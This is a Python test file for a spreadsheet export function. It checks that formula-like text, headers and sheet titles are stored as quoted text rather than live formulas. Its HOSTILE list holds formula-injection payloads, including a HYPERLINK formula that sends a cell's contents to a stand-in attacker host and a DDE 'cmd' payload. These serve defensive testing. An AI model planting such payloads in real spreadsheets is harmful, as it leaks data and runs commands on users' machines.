import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from telka.lib.xlsx import build_xlsx

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_formula_like_text_as_quoted_text(text):
    [header, cell] = _cells(build_xlsx([("Sheet", ["Title"], [[text]])]))
    assert cell.data_type == "s"
    assert cell.value == text  # the words unchanged (lxml, which pyHanko needs, keeps a CR)
    assert cell.quotePrefix is True
    assert header.quotePrefix is False


def test_headers_and_sheet_titles_are_text_too():
    data = build_xlsx([("=A1:B2/[x]*?", ["=1+1"], [])])
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["=A1_B2__x___"]
    header = workbook.worksheets[0]["A1"]
    assert (header.data_type, header.value, header.quotePrefix) == ("s", "=1+1", True)


def test_numbers_dates_and_empty_cells_keep_their_type():
    day = datetime.date(2026, 3, 1)
    row = [Decimal("-12.50"), -3, 1.5, day, None, True, "ordinary text"]
    cells = _cells(build_xlsx([("S", list("ABCDEFG"), [row])]))[7:]
    assert [c.value for c in cells] == [
        Decimal("-12.50"),
        -3,
        1.5,
        datetime.datetime(2026, 3, 1),
        None,
        True,
        "ordinary text",
    ]
    assert [c.data_type for c in cells] == ["n", "n", "n", "d", "n", "b", "s"]
    assert not any(c.quotePrefix for c in cells)


def test_control_characters_and_overlong_text_do_not_break_the_file():
    cells = _cells(build_xlsx([("S", ["A", "B"], [["a\x00b\x1fc", "x" * 40_000]])]))
    assert cells[2].value == "a\ufffdb\ufffdc"
    assert len(cells[3].value) == 32_767
